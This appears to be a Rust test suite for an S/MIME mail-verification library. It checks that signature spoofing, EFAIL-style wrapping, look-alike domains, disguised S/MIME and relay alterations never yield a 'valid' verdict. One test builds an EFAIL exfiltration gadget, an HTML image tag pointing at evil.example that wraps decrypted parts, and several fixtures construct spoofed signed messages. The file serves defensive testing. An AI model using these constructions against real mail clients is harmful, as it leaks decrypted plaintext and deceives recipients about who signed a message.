//! Spoofs one layer deeper: what no mail program may call valid stays so inside encryption, compression, another's signature or a wrapping
//! (gate G11; "Johnny, you are fired", EFAIL, "Re: What's up Johnny?"). And what only looks like S/MIME, or hides that it is.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::cast_possible_truncation,
    reason = "tests may panic"
)]

mod support;

use std::io::Cursor;

use kakitome_cms::{CompressedData, oid};
use kakitome_crypto::DigestAlgorithm;
use kakitome_smime::{Covers, LayerState, Policy, open};
use support::cast::{ALICE, Cast, EVE, EVIL, HTML, change, disposed, parts};
use support::envelope::{CBC, GCM, Reader};
use support::{NOW, TEXT, base64, clear, has, ids, mail, opaque, p7s, signed_data};

const BOB: &str = "bob@bank.example";

/// Entities that show Eve's text under a signature of Alice's, one of each class.
fn spoofs(cast: &Cast) -> Vec<(&'static str, String)> {
    let (alice, eve) = (&cast.alice, &cast.eve);
    let (honest, honest_opaque) = (cast.honest(), cast.honest_opaque());
    let sha256 = DigestAlgorithm::Sha256.to_der();
    let nobody = signed_data(&[&sha256], Some(EVIL.as_bytes()), &[alice.certificate.as_der()], &[]);
    let both = {
        let usual = |content: &str| support::Person::usual_attributes(content.as_bytes());
        let good = alice.signer_info(TEXT.as_bytes(), Some(usual(TEXT)));
        let bad = eve.signer_info(EVIL.as_bytes(), Some(usual(EVIL)));
        signed_data(&[&sha256], Some(EVIL.as_bytes()), &[alice.certificate.as_der(), eve.certificate.as_der()], &[&good, &bad])
    };
    let stranger = support::Authority::new("Root").person(ALICE);
    let image = "Content-Type: text/html\r\n\r\n<p>Pay Eve.</p><img src=\"cid:signed\" height=0>\r\n";
    vec![
        ("c1 content inside, other content beside", clear(EVIL, &alice.opaque(TEXT.as_bytes()))),
        ("c1 content inside, nothing beside", clear("\r\n", &alice.opaque(TEXT.as_bytes()))),
        ("c2 one good signer of two", opaque("signed-data", &both)),
        ("c3 no signers", opaque("signed-data", &nobody)),
        ("c3 no signers beside", clear(EVIL, &signed_data(&[&sha256], None, &[alice.certificate.as_der()], &[]))),
        ("c4 a root of one's own with the same name", clear(TEXT, &stranger.detached(TEXT.as_bytes()))),
        ("m1 text before", parts("mixed", &[EVIL, &honest])),
        ("m1 HTML that hides it", parts("mixed", &[HTML, &honest])),
        ("m2 text after", parts("mixed", &[&honest_opaque, EVIL])),
        ("m3 by cid", parts("related", &[image, &honest.replacen("Content-Type", "Content-ID: <signed>\r\nContent-Type", 1)])),
        ("m4 as attachment", parts("mixed", &[EVIL, &disposed(&honest, "attachment; filename=a.eml")])),
        ("forwarded", format!("Content-Type: message/rfc822\r\n\r\n{}", String::from_utf8(mail(ALICE, &honest)).unwrap())),
        ("changed", change(&honest, "nobody", "Eve")),
        ("third part", change(&honest, "--outer--", &format!("--outer\r\n{EVIL}\r\n--outer--"))),
        ("two boundaries", change(&honest, "boundary=outer", "boundary=evil; boundary=outer")),
        ("signature file that is shown", change(&honest, "application/pkcs7-signature; name", "text/html; name")),
    ]
}

#[test]
fn g11_no_spoof_is_valid_one_layer_deeper() {
    let cast = Cast::new();
    let bob = Reader::new(&cast.root, BOB);
    let compressed = |entity: &str| opaque("compressed-data", &CompressedData::write(oid::DATA, entity.as_bytes()).unwrap());
    let wrapped = |entity: &str| {
        let message = String::from_utf8(mail(ALICE, entity)).unwrap();
        let content = format!("Content-Type: message/rfc822; forwarded=no\r\n\r\n{message}");
        clear(&content, &cast.eve.detached(content.as_bytes())).replace("outer", "around-it")
    };
    let mut judged = 0;
    for (name, entity) in spoofs(&cast) {
        let eve = clear(&entity, &cast.eve.detached(entity.as_bytes())).replace("outer", "outermost");
        let forms = [
            entity.clone(),
            bob.entity(CBC, &entity),
            bob.entity(GCM, &entity),
            bob.entity(GCM, &compressed(&entity)),
            eve.clone(),
            bob.entity(CBC, &eve),
            wrapped(&entity),
        ];
        for (number, form) in forms.iter().enumerate() {
            let report = bob.judge(&cast.root, &mail(ALICE, form));
            assert_ne!(report.verdict().word(), "valid", "{name}, form {number}: {:?}", ids(&report));
            judged += 1;
        }
    }
    assert_eq!(judged, 16 * 7);
    // The same without the spoof is valid in every form but under Eve's signature.
    for form in [bob.entity(CBC, &cast.honest()), bob.entity(GCM, &compressed(&cast.honest_opaque()))] {
        assert_eq!(bob.judge(&cast.root, &mail(ALICE, &form)).verdict().word(), "valid");
    }
}

/// A gadget's shape: an attacker who cannot read it puts his own parts before and after what he cannot change.
#[test]
fn m01_m02_an_attackers_parts_around_decrypted_ones_are_parts() {
    let cast = Cast::new();
    let bob = Reader::new(&cast.root, BOB);
    let open = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/";
    for inside in [cast.honest(), cast.honest_opaque()] {
        let joined = parts("mixed", &[open, &inside, "Content-Type: text/html\r\n\r\n\">\r\n"]);
        let report = bob.judge(&cast.root, &bob.mail(ALICE, CBC, &joined));
        assert_eq!((report.verdict().word(), report.signers[0].covers), ("untrusted", Covers::Part), "{:?}", ids(&report));
    }
}

#[test]
fn v17_a_forwarded_mails_signature_is_that_of_an_attachment() {
    let cast = Cast::new();
    let bob = Reader::new(&cast.root, BOB);
    let honest = String::from_utf8(mail(ALICE, &cast.honest())).unwrap();
    let forwarded = format!("Content-Type: message/rfc822\r\n\r\n{honest}");
    for entity in [forwarded.clone(), parts("mixed", &[TEXT, &forwarded]), bob.entity(GCM, &forwarded)] {
        let report = bob.judge(&cast.root, &mail(EVE, &entity));
        assert_eq!((report.verdict().word(), report.signers.len()), ("unsigned", 0), "{:?}", ids(&report));
        assert!(has(&report, "smime.attached-message"));
    }
}

#[test]
fn v23_a_look_alike_domain_is_shown_as_it_is_written_in_the_certificate() {
    let cast = Cast::new();
    // Cyrillic а in the place of the Latin one; Eve's certificate for it is a real one.
    let look_alike = "alice@b\u{430}nk.example";
    let eve = cast.root.person("alice@xn--bnk-6cd.example");
    let entity = clear(TEXT, &eve.detached(TEXT.as_bytes()));
    let report = cast.root.judge(&mail(look_alike, &entity));
    assert_eq!(report.verdict().word(), "valid", "it is who it says: {:?}", ids(&report));
    assert_eq!(report.signers[0].address.certificate, ["alice@xn--bnk-6cd.example"]);
    assert_eq!(cast.root.verdict(&mail(ALICE, &entity)), "untrusted");
    assert_eq!(cast.root.verdict(&mail(look_alike, &cast.honest())), "untrusted");
}

#[test]
fn h13_a_key_that_was_not_handed_in_opens_nothing() {
    let cast = Cast::new();
    let (bob, carol) = (Reader::new(&cast.root, BOB), Reader::new(&cast.root, "carol@bank.example"));
    // Carol's ciphertext in a mail to Bob, with Bob's keys at hand: whoever calls hands in the keys of the envelope's recipients.
    let report = bob.judge(&cast.root, &carol.mail(ALICE, CBC, &cast.honest()));
    assert_eq!((report.verdict().word(), report.layers.len()), ("undecryptable", 1));
    assert_eq!(report.layers[0].state, LayerState::NoKey);
    assert!(report.layers[0].opened.is_none() && report.signers.is_empty());
}

#[test]
fn h14_what_hides_that_it_is_smime_is_known_by_its_content_or_left_alone() {
    let cast = Cast::new();
    let bob = Reader::new(&cast.root, BOB);
    let signed = cast.honest_opaque();
    let stated = "application/pkcs7-mime; smime-type=signed-data; name=smime.p7m";
    for renamed in ["application/octet-stream; name=letter.dat", "application/x-msdownload", "application/pdf; name=invoice.pdf"] {
        assert_eq!(cast.root.verdict(&mail(ALICE, &change(&signed, stated, renamed))), "valid", "{renamed}");
        let beside = parts("mixed", &[TEXT, &change(&signed, stated, renamed)]);
        let report = bob.judge(&cast.root, &mail(ALICE, &beside));
        assert_eq!((report.verdict().word(), report.signers.len()), ("unsigned", 0), "{renamed}: an attached file is no signature");
    }
    // The text of a mail is no place for it: some programs would show it as text.
    assert_eq!(cast.root.verdict(&mail(ALICE, &change(&signed, stated, "text/plain"))), "unsigned");
    let tnef = |inside: &[u8]| {
        let bytes = [&[0x78, 0x9f, 0x3e, 0x22, 1, 0][..], inside].concat();
        format!("Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n{}", base64(&bytes))
    };
    let inside = tnef(&cast.alice.opaque(TEXT.as_bytes()));
    for entity in
        [inside.clone(), parts("mixed", &[TEXT, &inside]), parts("mixed", &[&inside, &p7s(&cast.alice.detached(TEXT.as_bytes()))])]
    {
        assert_eq!(cast.root.verdict(&mail(ALICE, &entity)), "unsigned");
    }
}

#[test]
fn h15_openpgp_beside_smime_is_named_and_never_counts() {
    let cast = Cast::new();
    let pgp = "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nPay Eve.\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\niQ==\r\n-----END PGP SIGNATURE-----\r\n";
    let secret = "-----BEGIN PGP MESSAGE-----\r\n\r\nhQ==\r\n-----END PGP MESSAGE-----\r\n";
    let text = |body: &str| format!("Content-Type: text/plain\r\n\r\n{body}");
    for (body, id) in [(pgp, "smime.other-signature"), (secret, "smime.other-encryption")] {
        for entity in [text(body), parts("mixed", &[&text(body), "Content-Type: text/plain\r\n\r\nmore\r\n"])] {
            let report = cast.root.judge(&mail(ALICE, &entity));
            assert_eq!(report.verdict().word(), "unsigned");
            assert!(has(&report, id), "{:?}", ids(&report));
        }
        // Under a good signature of Alice's it is text like any other, and is named.
        let content = text(body);
        let report = cast.root.judge(&mail(ALICE, &clear(&content, &cast.alice.detached(content.as_bytes()))));
        assert_eq!(report.verdict().word(), "valid");
        assert!(has(&report, id), "{:?}", ids(&report));
    }
    // OpenPGP's signature around S/MIME's, and the other way round.
    let outer = "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=p\r\n\r\n--p\r\n{}\r\n--p\r\nContent-Type: application/pgp-signature\r\n\r\nx\r\n--p--\r\n";
    let report = cast.root.judge(&mail(ALICE, &outer.replace("{}", &cast.honest())));
    assert_eq!(report.verdict().word(), "untrusted", "S/MIME covers a part of it");
    assert!(has(&report, "smime.other-signature"));
    let inner = outer.replace("{}", TEXT);
    let report = cast.root.judge(&mail(ALICE, &clear(&inner, &cast.alice.detached(inner.as_bytes()))));
    assert_eq!(report.verdict().word(), "valid");
    assert!(has(&report, "smime.other-signature"));
}

/// V22: what relays do to line ends, blanks and transfer encodings, one by one.
#[test]
fn v22_what_relays_change() {
    let cast = Cast::new();
    let honest = String::from_utf8(mail(ALICE, &cast.honest())).unwrap();
    let judge = |bytes: &str| open(&mut Cursor::new(bytes), &cast.root.evidence(), &Policy::default(), NOW).unwrap();
    assert_eq!(judge(&honest.replace("\r\n", "\n")).verdict().word(), "valid", "saved with the line ends of Unix");
    for changed in [
        change(&honest, "Hello.\r\n", "Hello. \r\n"),
        change(&honest, "Hello.\r\n", "Hello.\r\n\r\n"),
        change(
            &honest,
            "Content-Type: text/plain; charset=us-ascii",
            "Content-Type: text/plain; charset=us-ascii\r\nContent-Transfer-Encoding: quoted-printable",
        ),
        change(&honest, "Content-Type: text/plain; charset=us-ascii", "Content-Type: text/plain;\r\n charset=us-ascii"),
    ] {
        assert_eq!(judge(&changed).verdict().word(), "altered");
    }
}
